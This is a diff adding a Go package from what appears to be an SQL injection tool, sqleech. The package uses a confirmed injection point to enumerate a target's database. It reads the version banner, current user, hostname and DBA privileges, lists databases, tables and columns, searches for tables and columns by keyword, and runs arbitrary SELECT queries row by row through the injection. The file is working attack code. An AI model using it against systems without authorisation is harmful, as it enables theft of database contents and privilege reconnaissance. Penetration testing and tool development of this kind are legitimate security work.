@@ -0,0 +1,253 @@
+// Package enum enumerates the databases, tables and columns behind a
+// confirmed injection point, reading the DBMS catalog one row at a time
+// through the technique that made the finding.
+package enum
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+
+	"github.com/0x6d61/sqleech/internal/dbms"
+	"github.com/0x6d61/sqleech/internal/engine"
+)
+
+// Extractor evaluates a SQL expression through a finding of a scan of
+// target. *engine.Scanner implements it.
+type Extractor interface {
+	Extract(ctx context.Context, target *engine.ScanTarget, vuln engine.Vulnerability, query string) (*engine.ExtractionResult, error)
+}
+
+// ErrUnknownDBMS is returned by New for a finding whose DBMS has no
+// enumeration queries.
+var ErrUnknownDBMS = errors.New("enum: unknown DBMS")
+
+// PartialError reports an enumeration cut short, by context cancellation
+// or a failed request, after Read of Total rows. The names read so far are
+// returned alongside it.
+type PartialError struct {
+	Read     int
+	Total    int
+	Offset   int // Row to resume from, for DumpOptions.Offset
+	Requests int // Requests spent on the list, the count included
+	Err      error
+}
+
+func (e *PartialError) Error() string {
+	return fmt.Sprintf("enum: read %d of %d rows in %d requests: %v", e.Read, e.Total, e.Requests, e.Err)
+}
+
+func (e *PartialError) Unwrap() error { return e.Err }
+
+// Enumerator lists catalog names through one finding. It counts a list's
+// rows first, then reads them one at a time with the DBMS's LIMIT/OFFSET
+// form, so any technique that can extract a single value can enumerate.
+type Enumerator struct {
+	ext    Extractor
+	target *engine.ScanTarget
+	vuln   engine.Vulnerability
+	d      dbms.DBMS
+
+	requests int
+}
+
+// New returns an Enumerator reading through vuln, a finding of a scan of
+// target, with ext. vuln.DBMS selects the catalog queries.
+func New(ext Extractor, target *engine.ScanTarget, vuln engine.Vulnerability) (*Enumerator, error) {
+	d := dbms.Registry(vuln.DBMS)
+	if d == nil {
+		return nil, fmt.Errorf("%w %q", ErrUnknownDBMS, vuln.DBMS)
+	}
+	return &Enumerator{ext: ext, target: target, vuln: vuln, d: d}, nil
+}
+
+// Requests returns the number of requests the Enumerator has spent.
+func (e *Enumerator) Requests() int { return e.requests }
+
+// Finding returns the finding the Enumerator reads through.
+func (e *Enumerator) Finding() engine.Vulnerability { return e.vuln }
+
+// Query evaluates a user query: a SELECT (or WITH) of a single column
+// returns each of its rows, read one at a time as the lists are, and any
+// other expression its value. The query is not checked; callers refuse
+// statements that write (see payload.CheckReadOnly). Values are those of
+// ExtractionResult.Display, filtered when the scan has an ExtractFilter.
+func (e *Enumerator) Query(ctx context.Context, query string) ([]string, error) {
+	results, err := e.QueryResults(ctx, query)
+	values := make([]string, len(results))
+	for i, res := range results {
+		values[i] = res.Display()
+	}
+	return values, err
+}
+
+// QueryResults is Query returning each row's extraction result, raw value
+// and filter outcome both.
+func (e *Enumerator) QueryResults(ctx context.Context, query string) ([]*engine.ExtractionResult, error) {
+	query = strings.TrimRight(strings.TrimSpace(query), ";")
+	if !isSelect(query) {
+		res, err := e.extract(ctx, textExpr(e.d, "("+query+")"))
+		if err != nil {
+			return nil, err
+		}
+		return []*engine.ExtractionResult{res}, nil
+	}
+	// As a derived table, the query may limit its rows itself.
+	return e.listResults(ctx, fmt.Sprintf("SELECT * FROM (%s) q", query))
+}
+
+// Banner returns the DBMS's version banner, such as MySQL's @@version or
+// PostgreSQL's version().
+func (e *Enumerator) Banner(ctx context.Context) (string, error) {
+	return e.value(ctx, e.d.VersionQuery())
+}
+
+// CurrentUser returns the DBMS user the application connects as.
+func (e *Enumerator) CurrentUser(ctx context.Context) (string, error) {
+	return e.value(ctx, e.d.CurrentUserQuery())
+}
+
+// CurrentDB returns the database the application's queries run in.
+func (e *Enumerator) CurrentDB(ctx context.Context) (string, error) {
+	return e.value(ctx, e.d.CurrentDBQuery())
+}
+
+// Hostname returns the DBMS server's host name, or its address where the
+// DBMS knows no name (PostgreSQL).
+func (e *Enumerator) Hostname(ctx context.Context) (string, error) {
+	return e.value(ctx, e.d.HostnameQuery())
+}
+
+// IsDBA reports whether the DBMS user has DBA privileges: MySQL's SUPER,
+// a PostgreSQL superuser, MSSQL's sysadmin role or Oracle's DBA role.
+func (e *Enumerator) IsDBA(ctx context.Context) (*engine.DBACheck, error) {
+	query := e.d.IsDBAQuery()
+	v, err := e.value(ctx, query)
+	if err != nil {
+		return nil, err
+	}
+	isDBA, err := parseFlag(v)
+	if err != nil {
+		return nil, err
+	}
+	return &engine.DBACheck{IsDBA: isDBA, Query: query, Value: v}, nil
+}
+
+// parseFlag reads a DBMS's boolean: Y/N (MySQL's privilege columns),
+// on/off (PostgreSQL settings), true/false, or a count, true when nonzero.
+func parseFlag(v string) (bool, error) {
+	switch strings.ToLower(strings.TrimSpace(v)) {
+	case "y", "yes", "t", "true", "on":
+		return true, nil
+	case "n", "no", "f", "false", "off":
+		return false, nil
+	}
+	n, err := strconv.Atoi(strings.TrimSpace(v))
+	if err != nil {
+		return false, fmt.Errorf("enum: %q is not a boolean", v)
+	}
+	return n != 0, nil
+}
+
+// Databases lists the databases (schemas) the DBMS user can see.
+func (e *Enumerator) Databases(ctx context.Context) ([]string, error) {
+	return e.list(ctx, e.d.ListDatabasesQuery())
+}
+
+// Tables lists the tables of database db.
+func (e *Enumerator) Tables(ctx context.Context, db string) ([]string, error) {
+	return e.list(ctx, e.d.ListTablesQuery(db))
+}
+
+// Columns lists the columns of table in database db.
+func (e *Enumerator) Columns(ctx context.Context, db, table string) ([]string, error) {
+	return e.list(ctx, e.d.ListColumnsQuery(db, table))
+}
+
+// SearchTables lists, as database.table, the tables whose names contain
+// keyword, ignoring case.
+func (e *Enumerator) SearchTables(ctx context.Context, keyword string) ([]string, error) {
+	return e.list(ctx, e.d.SearchTablesQuery(keyword))
+}
+
+// SearchColumns lists, as database.table.column, the columns whose names
+// contain keyword, ignoring case.
+func (e *Enumerator) SearchColumns(ctx context.Context, keyword string) ([]string, error) {
+	return e.list(ctx, e.d.SearchColumnsQuery(keyword))
+}
+
+// isSelect reports whether query is a SELECT or WITH statement rather
+// than an expression.
+func isSelect(query string) bool {
+	words := strings.Fields(query)
+	return len(words) > 0 && (strings.EqualFold(words[0], "SELECT") || strings.EqualFold(words[0], "WITH"))
+}
+
+// value reads the single value of query, an expression or one-row SELECT.
+// It is cast to text first: not every type survives every technique, such
+// as PostgreSQL's inet, which error-based payloads cannot cast to a number.
+func (e *Enumerator) value(ctx context.Context, query string) (string, error) {
+	res, err := e.extract(ctx, textExpr(e.d, "("+query+")"))
+	if err != nil {
+		return "", err
+	}
+	return res.Value, nil
+}
+
+// list reads every row of query, a single-column SELECT. Rows are ordered
+// by their value, unless query orders them itself, so that paging sees the
+// same order on every request.
+func (e *Enumerator) list(ctx context.Context, query string) ([]string, error) {
+	results, err := e.listResults(ctx, query)
+	names := make([]string, len(results))
+	for i, res := range results {
+		names[i] = res.Value
+	}
+	return names, err
+}
+
+// listResults is list returning each row's extraction result.
+func (e *Enumerator) listResults(ctx context.Context, query string) ([]*engine.ExtractionResult, error) {
+	start := e.requests
+	ordered := query
+	if !strings.Contains(strings.ToUpper(query), "ORDER BY") {
+		ordered += " ORDER BY 1"
+	}
+
+	countRes, err := e.extract(ctx, fmt.Sprintf("SELECT COUNT(*) FROM (%s) t", query))
+	if err != nil {
+		return nil, &PartialError{Requests: e.requests - start, Err: err}
+	}
+	total, err := strconv.Atoi(strings.TrimSpace(countRes.Value))
+	if err != nil {
+		return nil, fmt.Errorf("enum: row count %q: %w", countRes.Value, err)
+	}
+
+	rows := make([]*engine.ExtractionResult, 0, total)
+	for i := 0; i < total; i++ {
+		if err := ctx.Err(); err != nil {
+			return rows, &PartialError{Read: i, Total: total, Offset: i, Requests: e.requests - start, Err: err}
+		}
+		res, err := e.extract(ctx, e.d.LimitOffset(ordered, i, 1))
+		if err != nil {
+			return rows, &PartialError{Read: i, Total: total, Offset: i, Requests: e.requests - start, Err: err}
+		}
+		rows = append(rows, res)
+	}
+	return rows, nil
+}
+
+// extract evaluates query through the finding and adds its requests to
+// the count.
+func (e *Enumerator) extract(ctx context.Context, query string) (*engine.ExtractionResult, error) {
+	res, err := e.ext.Extract(ctx, e.target, e.vuln, query)
+	if res != nil {
+		e.requests += res.Requests
+	}
+	if err != nil {
+		return nil, err
+	}
+	return res, nil
+}